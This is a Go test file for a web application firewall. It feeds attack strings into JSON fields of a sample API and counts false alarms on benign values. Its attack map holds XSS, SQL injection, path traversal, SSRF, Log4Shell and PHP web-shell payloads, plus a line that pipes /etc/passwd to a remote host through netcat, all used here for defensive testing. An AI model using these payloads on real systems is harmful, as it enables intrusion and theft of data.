package waf

import (
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/gatehouse-sec/gatehouse/bench/firewall"
	"github.com/gatehouse-sec/gatehouse/bench/traffic/everyday"
	"github.com/gatehouse-sec/gatehouse/gate"
	"github.com/gatehouse-sec/gatehouse/guard/contract"
	"github.com/gatehouse-sec/gatehouse/kit/body"
	"github.com/gatehouse-sec/gatehouse/kit/openapi"
)

// everydayAPI makes exchanges of requests for those operations of the everyday API that have a JSON body and nothing in their path:
// nil for the others, and where the contract refuses the request.
func everydayAPI(t *testing.T) func(operation string, r firewall.Request) *gate.Exchange {
	t.Helper()
	c, err := openapi.Load("everyday.yaml", func(string) ([]byte, error) { return []byte(everyday.Contract()), nil })
	if err != nil {
		t.Fatal(err)
	}
	api := &gate.API{Name: "everyday"}
	ops := map[string]*gate.Operation{}
	for _, o := range c.Operations {
		if !strings.Contains(o.Template, "{") && o.Method != http.MethodGet {
			op := &gate.Operation{API: "everyday", Key: o.ID, Method: o.Method, Template: o.Template, Contract: o}
			ops[o.ID], api.Operations = op, append(api.Operations, op)
		}
	}
	judge, err := contract.New(contract.Config{}, api)
	if err != nil {
		t.Fatal(err)
	}
	return func(operation string, r firewall.Request) *gate.Exchange {
		op := ops[operation]
		if op == nil {
			return nil
		}
		x := sample{method: r.Method, path: r.Target, media: "application/json", kind: body.JSON, body: string(r.Body)}.exchange()
		x.Operation = op
		if !judge.Check(t.Context(), x).Allowed() {
			return nil
		}
		return x
	}
}

// TestEverydayAPI is the short form of bench/alarms: a text that its contract gives a sink is asked about what can hurt there, as if
// nothing were said, and a benign text that is denied is denied by a rule about that.
func TestEverydayAPI(t *testing.T) {
	judged := everydayAPI(t)
	exact, sinks := guard(t, Config{Exact: true}), guard(t, Config{})
	fields, err := everyday.Fields()
	if err != nil {
		t.Fatal(err)
	}
	attacks := map[string][]string{
		"html":  {`<script>alert(document.cookie)</script>`, `"><img src=x onerror=alert(1)>`, `<meta http-equiv="refresh" content="0;url=//a.example">`, `javascript:alert(1)`},
		"shell": {"; cat /etc/passwd | nc 203.0.113.9 4444", `";id;"`, "${jndi:ldap://203.0.113.9/a}", "<?php system($_GET['c']); ?>", `{{ get_user_file("/etc/hosts") }}`},
		"path":  {"../../../../etc/passwd", "php://filter/convert.base64-encode/resource=index", "http://203.0.113.9/shell.txt?"},
		"url":   {"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "http://203.0.113.9/c99.txt?"},
	}
	attacks["unsaid"] = slices.Concat([]string{`1' UNION SELECT password FROM users--`}, attacks["html"], attacks["shell"], attacks["path"])
	asked := 0
	for _, d := range fields {
		for _, text := range attacks[d.Kind()] {
			x := judged(d.Operation, everyday.With(d.Field, text))
			if x == nil {
				continue
			}
			asked++
			for mode, g := range map[string]*Guard{"exact": exact, "with sinks": sinks} {
				if v := g.Check(t.Context(), x); v.Allowed() {
					t.Errorf("%s: %q passes in %v, which is %s", mode, text, d.Field, d.Kind())
				}
			}
		}
	}
	if asked < 50 {
		t.Errorf("only %d attacks were sent", asked)
	}
	kinds := map[everyday.Field]string{}
	for _, d := range fields {
		kinds[d.Field] = d.Kind()
	}
	before, after := 0, 0
	for i, v := range everyday.Values(false) {
		if i%4 > 0 {
			continue
		}
		x := judged(v.Operation, everyday.With(v.Field, v.Text))
		if x == nil {
			continue
		}
		if !exact.Check(t.Context(), x).Allowed() {
			before++
		}
		w := sinks.Check(t.Context(), x)
		if w.Allowed() {
			continue
		}
		after++
		t.Logf("%v %.80q: %s", v.Field, v.Text, w.Detail)
		for _, found := range strings.Split(w.Detail, "; ") {
			if kind := kinds[v.Field]; kind != "unsaid" && !rulesFor[kind].MatchString(found) {
				t.Errorf("%v is %s, and denied by %s", v.Field, kind, found)
			}
		}
	}
	if t.Logf("false alarms: %d exact, %d with sinks", before, after); after >= before {
		t.Errorf("%d false alarms with sinks, of %d without", after, before)
	}
}

// rulesFor are the core rules that have to do with what becomes of a text, by the files they stand in.
var rulesFor = map[string]*regexp.Regexp{
	"html": regexp.MustCompile(`^(941|921130)`), "sql": regexp.MustCompile(`^942`), "shell": regexp.MustCompile(`.`),
	"path": regexp.MustCompile(`^(930|931|933)`), "url": regexp.MustCompile(`^(921|930|931|934)`), "none": regexp.MustCompile(`^(920|921200|943)`),
}
